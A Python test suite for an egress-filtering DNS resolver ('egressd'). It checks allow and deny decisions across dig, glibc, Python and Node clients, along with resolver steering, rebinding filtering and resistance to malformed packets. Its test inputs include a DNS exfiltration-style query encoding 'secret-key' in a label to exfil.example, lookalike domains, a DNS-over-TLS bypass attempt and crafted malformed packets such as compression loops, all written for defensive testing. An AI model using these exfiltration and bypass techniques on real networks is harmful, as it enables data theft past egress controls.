"""The resolver (issue 5): DNS from the fenced cgroup, UDP or TCP, to any
address, is answered by egressd, which forwards only names the policy allows
to the world's dnsmasq and answers everything else itself (NXDOMAIN). Real
clients: dig, glibc (getent), python getaddrinfo, node (getaddrinfo and
c-ares), and crafted packets (dns_clients.py)."""
import json
import os
import signal
import time
import unittest

from dns_case import DNS_POLICY_DENY_EVENTS, OTHER_RESOLVERS, DnsCase
from origins import BIG_TXT
from proxy_case import require_tools

ALLOWED4, ALLOWED6 = "203.0.113.10", "2001:db8::10"


class Clients(DnsCase):
    def test_dig(self):
        r = self.dig("allowed.test", "A")
        self.assertAnswer(r, [ALLOWED4])
        self.assertEqual(r.parsed["server"], "198.51.100.53#53(198.51.100.53) (UDP)", r.stdout)
        ev = self.dns_event(r.pid, verdict="allow", reason="dns-name-allowed", host="allowed.test", qtype="A")
        self.assertEqual((ev["l7"], ev["daddr"], ev["dport"], ev["proto"]), ("dns", "198.51.100.53", 53, "udp"),
                         json.dumps(ev))
        self.assertAnswer(self.dig("allowed.test", "AAAA"), [ALLOWED6])
        r = self.dig("alias.test", "A")  # CNAME to allowed.test: the chain comes back whole
        self.assertAnswer(r, [ALLOWED4])
        self.assertIn(["alias.test", "CNAME", "allowed.test."], r.parsed["answers"], r.stdout)
        self.assertAnswer(self.dig("v6only.test", "A"), [])  # NODATA passes through
        r = self.dig("allowed.test", "AAAA", user="nobody")  # an unprivileged agent
        self.assertAnswer(r, [ALLOWED6])
        self.dns_event(r.pid, verdict="allow", host="allowed.test", qtype="AAAA", uid=65534)
        r = self.dig("other.test", user="nobody")
        self.assertEqual(r.parsed["status"], "NXDOMAIN", r.stdout)
        self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed", host="other.test", uid=65534)
        self.assertIn("query[A] allowed.test from 198.51.100.2", self.upstream_marker())

    def test_getent_glibc(self):
        r = self.w.agent_run(["getent", "ahostsv4", "allowed.test"])
        self.assertEqual((r.returncode, {l.split()[0] for l in r.stdout.splitlines()}), (0, {ALLOWED4}), r.stderr)
        r = self.w.agent_run(["getent", "ahosts", "allowed.test"])
        self.assertEqual((r.returncode, {l.split()[0] for l in r.stdout.splitlines()}), (0, {ALLOWED4, ALLOWED6}),
                         r.stderr)
        self.dns_event(r.pid, verdict="allow", host="allowed.test", comm="getent")
        r = self.w.agent_run(["getent", "hosts", "other.test"])
        self.assertEqual(r.returncode, 2, f"glibc resolved a name the policy does not allow: {r.stdout}")
        self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed", host="other.test", comm="getent")

    def test_python_getaddrinfo(self):
        r = self.dnsq("getaddrinfo", "allowed.test")
        self.assertEqual((r["error"], r["addresses"]), (None, sorted([ALLOWED4, ALLOWED6])), r)
        r = self.dnsq("getaddrinfo", "other.test")
        self.assertEqual(r["addresses"], [], r)
        self.assertEqual(r["eai"], -2, f"expected EAI_NONAME (NXDOMAIN): {r}")
        ev = self.dns_event(r["pid"], verdict="deny", reason="dns-name-not-allowed", host="other.test")
        self.assertTrue(ev["comm"].startswith("python"), json.dumps(ev))

    def test_node_lookup_and_resolve(self):
        require_tools(self, "node")
        script = ("const dns = require('dns'); const name = process.argv[1];"
                  "const out = {pid: process.pid};"
                  "dns.promises.lookup(name, {all: true})"
                  ".then(a => { out.lookup = a.map(x => x.address).sort(); }, e => { out.lookup_error = e.code; })"
                  ".then(() => dns.promises.resolve4(name))"
                  ".then(a => { out.resolve4 = a; }, e => { out.resolve4_error = e.code; })"
                  ".then(() => console.log(JSON.stringify(out)));")
        got = {}
        for name in ("allowed.test", "other.test"):
            r = self.w.agent_run(["node", "-e", script, name], timeout=30)
            lines = [l for l in r.stdout.split("\n") if l.startswith("{")]
            self.assertTrue(lines, f"node printed nothing (rc={r.returncode}): {r.stdout}{r.stderr}")
            got[name] = json.loads(lines[-1])
        self.assertEqual(got["allowed.test"].get("lookup"), sorted([ALLOWED4, ALLOWED6]), got)  # getaddrinfo
        self.assertEqual(got["allowed.test"].get("resolve4"), [ALLOWED4], got)                  # c-ares
        self.assertEqual((got["other.test"].get("lookup_error"), got["other.test"].get("resolve4_error")),
                         ("ENOTFOUND", "ENOTFOUND"), got)
        self.dns_event(got["other.test"]["pid"], verdict="deny", reason="dns-name-not-allowed", host="other.test",
                       comm="node")


class NotAllowed(DnsCase):
    def test_nxdomain_whatever_the_type_and_never_forwarded(self):
        for qtype in ("A", "AAAA", "TXT", "MX", "HTTPS", "SRV", "NS"):
            with self.subTest(qtype=qtype):
                r = self.dig("other.test", qtype)
                self.assertEqual((r.parsed["status"], r.parsed["answers"]), ("NXDOMAIN", []), r.stdout)
                self.assertEqual(r.parsed["ede"], 15, f"no Extended DNS Error 15 (Blocked):\n{r.stdout}")
                ev = self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed", host="other.test",
                                    qtype=qtype)
                self.assertEqual((ev["l7"], ev["daddr"], ev["dport"]), ("dns", "198.51.100.53", 53), json.dumps(ev))
        # Data in a label, a name one label off an allowed one, a reverse lookup.
        for args, host in ((["c2VjcmV0LWtleQ.exfil.example", "TXT"], "c2vjcmv0lwtleq.exfil.example"),
                           (["allowed.test.evil.example"], "allowed.test.evil.example"),
                           (["wild.test"], "wild.test"),  # *.wild.test covers names below it only
                           (["-x", "203.0.113.7"], "7.113.0.203.in-addr.arpa")):
            with self.subTest(name=args[0]):
                r = self.dig(*args)
                self.assertEqual(r.parsed["status"], "NXDOMAIN", r.stdout)
                self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed",
                               host=(host, host.lower(), args[0]))
        self.assertNeverForwarded("other.test", "exfil.example", "evil.example", " wild.test", "in-addr.arpa")

    def test_any_and_zone_transfers_are_refused(self):
        r = self.dig("allowed.test", "ANY")
        self.assertEqual(r.parsed["status"], "REFUSED", r.stdout)
        self.dns_event(r.pid, verdict="deny", reason="dns-type-not-allowed", host="allowed.test", qtype="ANY")
        r = self.dig("+tcp", "allowed.test", "ANY")
        self.assertEqual(r.parsed["status"], "REFUSED", r.stdout)
        r = self.dig("allowed.test", "AXFR")
        self.assertNotIn(ALLOWED4, r.stdout, "a zone transfer got through")
        self.dns_event(r.pid, verdict="deny", reason="dns-type-not-allowed", host="allowed.test", qtype="AXFR")
        # Other types of an allowed name are forwarded.
        r = self.dig("allowed.test", "TXT")
        self.assertEqual(r.parsed["status"], "NOERROR", r.stdout)
        self.assertNeverForwarded("ANY allowed.test", "AXFR allowed.test")
        self.assertIn("query[TXT] allowed.test from 198.51.100.2", self.w.dns_log())

    def test_chaos_class_is_refused_and_named(self):
        # version.bind CH TXT (the resolver-fingerprinting query): a name no
        # rule allows, and the event names its class and type, not "A".
        r = self.dig("version.bind", "CH", "TXT")
        self.assertEqual(r.parsed["status"], "NXDOMAIN", r.stdout)
        ev = self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed", host="version.bind")
        self.assertEqual((ev.get("qclass"), ev.get("qtype")), ("CH", "TXT"), json.dumps(ev))
        # An allowed name in class CH: refused for its class.
        r = self.dig("allowed.test", "CH", "A")
        self.assertEqual(r.parsed["status"], "REFUSED", r.stdout)
        ev = self.dns_event(r.pid, verdict="deny", reason="dns-type-not-allowed", host="allowed.test")
        self.assertEqual((ev.get("qclass"), ev.get("qtype")), ("CH", "A"), json.dumps(ev))
        self.assertNeverForwarded("version.bind")


class AllowEventsOnlyWhenAsked(DnsCase):
    POLICY = DNS_POLICY_DENY_EVENTS

    def test_allowed_query_is_no_event_with_events_deny(self):
        r = self.dig("allowed.test")
        self.assertAnswer(r, [ALLOWED4])
        d = self.dig("other.test")
        self.assertEqual(d.parsed["status"], "NXDOMAIN", d.stdout)
        # The resolver records in the order it decides: once the second
        # query's event is here, the first one's would be too.
        self.dns_event(d.pid, verdict="deny", reason="dns-name-not-allowed", host="other.test")
        allowed = [e for e in self.tail.events if e.get("hook") == "dns" and e.get("verdict") == "allow"]
        self.assertEqual(allowed, [], "an allowed query became an event with events = \"deny\"")


class Steering(DnsCase):
    def test_other_resolver_addresses_are_steered(self):
        for server in OTHER_RESOLVERS:
            with self.subTest(server=server):
                r = self.dig("allowed.test", server=server)
                self.assertAnswer(r, [ALLOWED4])
                # dig only accepts the answer from the address it asked.
                self.assertEqual(r.parsed["server"], f"{server}#53({server}) (UDP)", r.stdout)
                r = self.dig("other.test", server=server)
                self.assertEqual(r.parsed["status"], "NXDOMAIN", r.stdout)
                ev = self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed", host="other.test")
                self.assertEqual((ev["daddr"], ev["dport"]), (server, 53), json.dumps(ev))
        self.assertNeverForwarded("other.test")

    def test_answers_come_from_the_server_asked(self):
        # Unconnected sendto/recvfrom: the source of the answer (recvmsg
        # hooks), connected sockets: getpeername.
        for server, extra, want in (("198.51.100.99", [], "198.51.100.99"),
                                    ("10.0.0.1", [], "10.0.0.1"),
                                    ("127.0.0.53", [], "127.0.0.53"),
                                    ("2001:db8:ff::99", [], "2001:db8:ff::99"),
                                    ("::ffff:198.51.100.99", ["--dual"], "::ffff:198.51.100.99"),
                                    ("198.51.100.99", ["--connect"], "198.51.100.99"),
                                    ("fd00::53", ["--connect"], "fd00::53"),
                                    ("10.0.0.1", ["--tcp"], "10.0.0.1"),
                                    ("2001:db8:ff::99", ["--tcp"], "2001:db8:ff::99")):
            with self.subTest(server=server, extra=extra):
                r = self.dnsq("query", server, "allowed.test", *extra)
                self.assertEqual((r.get("error"), r.get("rcode"), r.get("id_ok")), (None, "NOERROR", True), r)
                self.assertEqual(r["answers"], [["allowed.test", "A", ALLOWED4]], r)
                self.assertEqual(r["from"], [want, 53], r)

    def test_tcp(self):
        for server in (None, "10.0.0.1", "2001:db8:ff::99"):
            with self.subTest(server=server):
                r = self.dig("+tcp", "allowed.test", "AAAA", server=server)
                self.assertAnswer(r, [ALLOWED6])
                self.assertTrue(r.parsed["server"].endswith("(TCP)"), r.stdout)
                r = self.dig("+tcp", "other.test", server=server)
                self.assertEqual(r.parsed["status"], "NXDOMAIN", r.stdout)
                ev = self.dns_event(r.pid, verdict="deny", reason="dns-name-not-allowed", host="other.test")
                self.assertEqual(ev["proto"], "tcp", json.dumps(ev))
        # Several queries on one connection (dig +keepopen with two names).
        r = self.dig("+tcp", "+keepopen", "allowed.test", "A", "v6only.test", "AAAA")
        self.assertIn(ALLOWED4, r.stdout)
        self.assertIn(ALLOWED6, r.stdout)
        self.assertEqual(r.stdout.count("status: NOERROR"), 2, r.stdout)
        self.assertNeverForwarded("other.test")

    def test_truncated_answers_retry_over_tcp(self):
        # 1.6 KB of TXT: more than dnsmasq puts in a 1232-byte UDP answer
        # (egressd asks again over TCP), and more than a client takes over
        # UDP (dig is told to retry over TCP).
        for extra in ([], ["+noedns"], ["+bufsize=512"]):
            with self.subTest(extra=extra):
                r = self.dig(*extra, "big.test", "TXT")
                self.assertEqual(r.parsed["status"], "NOERROR", r.stdout[-2000:])
                self.assertTrue(r.parsed["truncated_retry"], f"dig was not told to retry over TCP:\n{r.stdout[:800]}")
                txt = [d for _, t, d in r.parsed["answers"] if t == "TXT"]
                self.assertEqual(len(txt), 1, r.stdout[-2000:])
                self.assertEqual(txt[0].replace('"', "").split(), BIG_TXT)

    def test_dns_over_tls_stays_denied(self):
        for addr in ("198.51.100.53", "203.0.113.10"):
            with self.subTest(addr=addr):
                self.assertProbeDenied("connect", "tcp", addr, 853, reason="port", dport=853)
        r = self.dig("+tls", "allowed.test", server="198.51.100.53")
        self.assertNotEqual(r.parsed["status"], "NOERROR", r.stdout)
        self.tail.expect_event(lambda e: e.get("tgid") == r.pid and e.get("dport") == 853
                               and e.get("verdict") == "deny" and e.get("reason") == "port",
                               what="deny event for dig +tls")


class Filtering(DnsCase):
    def test_records_into_blocked_ranges_are_removed(self):
        for name, qtype in (("rebind.test", "A"), ("rebind6.test", "AAAA")):
            with self.subTest(name=name):
                r = self.dig(name, qtype)
                self.assertAnswer(r, [])
                self.dns_event(r.pid, reason="rebind", host=name)
        r = self.dnsq("getaddrinfo", "rebind.test", "--family", "4")
        self.assertEqual(r["addresses"], [], r)
        # The upstream did answer with the private addresses.
        log = self.upstream_marker()
        self.assertIn("rebind.test is 10.0.0.5", log)
        self.assertIn("rebind6.test is fd00::10", log)

    def test_https_record_loses_ech_and_blocked_hints(self):
        r = self.dig("ech.test", "HTTPS")
        self.assertEqual(r.parsed["status"], "NOERROR", r.stdout)
        https = [d for _, t, d in r.parsed["answers"] if t == "HTTPS"]
        self.assertEqual(len(https), 1, r.stdout)
        rec = https[0]
        self.assertNotIn("ech=", rec, "the ECH config reached the client although [proxy] ech = \"deny\"")
        self.assertIn('alpn="h2"', rec)
        self.assertIn("ipv4hint=203.0.113.10", rec)
        self.assertNotIn("10.0.0.5", rec)
        self.assertIn("ipv6hint=2001:db8::10", rec)
        self.assertNotIn("fd00::10", rec)


# A DNS header (id 0x1234, RD, one question) and a question for allowed.test.
_HEAD = "123401000001000000000000"
_QUESTION = "07616c6c6f77656404746573740000010001"
MALFORMED = {
    "short": "dead",
    "empty": "",
    "compression loop": _HEAD + "c00c" + "00010001",
    "forward pointer": _HEAD + "c020" + "00010001" + "00" * 20,
    "label over 63": _HEAD + "40" + "61" * 64 + "00" + "00010001",
    "name over 255": _HEAD + ("3f" + "61" * 63) * 4 + "00" + "00010001",
    "truncated question": _HEAD + "07616c6c6f776564",
    "a response": "123481800001000100000000" + _QUESTION + "c00c000100010000001e0004cb00710a",
}


class Malformed(DnsCase):
    def test_malformed_datagrams_do_not_stop_the_resolver(self):
        for what, hexdata in MALFORMED.items():
            for server in ("198.51.100.99", "10.0.0.1"):
                with self.subTest(what=what, server=server):
                    r = self.dnsq("raw", server, "--hex", hexdata, "--then", "allowed.test")
                    self.assertEqual(r["stray"], [], f"the resolver answered a malformed packet: {r}")
                    then = r.get("then") or {}
                    self.assertEqual((then.get("rcode"), then.get("answers")),
                                     ("NOERROR", [["allowed.test", "A", ALLOWED4]]),
                                     f"the next query was not answered: {r}\n--- egressd log (tail):\n"
                                     f"{self.daemon.log()[-2000:]}")
                    self.dns_event(r["pid"], reason="dns-malformed", verdict="deny")
        self.assertIsNone(self.daemon.proc.poll(), f"egressd exited:\n{self.daemon.log()[-3000:]}")

    def test_malformed_tcp_frames(self):
        for what in ("short", "compression loop", "label over 63"):
            with self.subTest(what=what):
                r = self.dnsq("raw", "10.0.0.1", "--tcp", "--hex", MALFORMED[what], "--then", "allowed.test",
                              "--wait", "3")
                self.assertIsNone(r.get("reply"), f"the resolver answered a malformed frame: {r}")
                then = r.get("then") or {}
                self.assertEqual((then.get("rcode"), then.get("answers")),
                                 ("NOERROR", [["allowed.test", "A", ALLOWED4]]), r)
                self.dns_event(r["pid"], reason="dns-malformed")
        self.assertIsNone(self.daemon.proc.poll(), f"egressd exited:\n{self.daemon.log()[-3000:]}")

    def test_sender_gone_before_the_lookup_reads_as_unknown(self):
        # How most "pid 0, uid 0" malformed events arose: the sender's socket
        # was closed before the resolver asked the kernel who owned it. Made
        # certain here by stopping egressd while a fenced sender sends its
        # garbage and exits; the datagram waits in the resolver's socket.
        text = self.w.tail(json=False)
        send = ("import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                "s.sendto(bytes.fromhex('123401000001'), ('198.51.100.99', 53)); print(os.getpid())")
        os.kill(self.daemon.pid, signal.SIGSTOP)
        try:
            r = self.w.agent_run([self.w.python, "-c", send])
        finally:
            os.kill(self.daemon.pid, signal.SIGCONT)
        self.assertEqual(r.returncode, 0, r.stderr)
        ev = self.dns_event(None, verdict="deny", reason="dns-malformed")
        self.assertEqual({k: ev.get(k, "absent") for k in ("pid", "tgid", "uid", "comm")},
                         {"pid": None, "tgid": None, "uid": None, "comm": None}, json.dumps(ev))
        end = time.monotonic() + 5
        line = None
        while time.monotonic() < end and not (line and "dns-malformed" in line):
            line = text.out.get(0.2)
        self.assertTrue(line and "dns-malformed" in line, f"no dns-malformed line in the text tail: {line!r}")
        self.assertRegex(line, r"Z \?\[\?\] deny udp - dns - dns-malformed via dns uid \?$")
        # A sender that is still there is named (the resolver is serving again).
        r = self.dnsq("raw", "198.51.100.99", "--hex", "123401000001", "--then", "allowed.test")
        self.assertEqual(r["then"]["rcode"], "NOERROR", r)
        ev = self.dns_event(r["pid"], verdict="deny", reason="dns-malformed")
        self.assertEqual((ev["comm"], ev["uid"]), ("python3", 0), json.dumps(ev))

    def test_query_with_two_questions_gets_formerr(self):
        two = "123401000002000000000000" + _QUESTION + _QUESTION
        r = self.dnsq("raw", "198.51.100.99", "--hex", two, "--then", "allowed.test")
        self.assertEqual(len(r["stray"]), 1, r)
        reply = bytes.fromhex(r["stray"][0])
        self.assertEqual((reply[:2].hex(), reply[3] & 0xF), ("1234", 1), f"not FORMERR: {r}")
        self.assertEqual((r["then"]["rcode"], r["then"]["answers"]), ("NOERROR", [["allowed.test", "A", ALLOWED4]]))


if __name__ == "__main__":
    unittest.main()
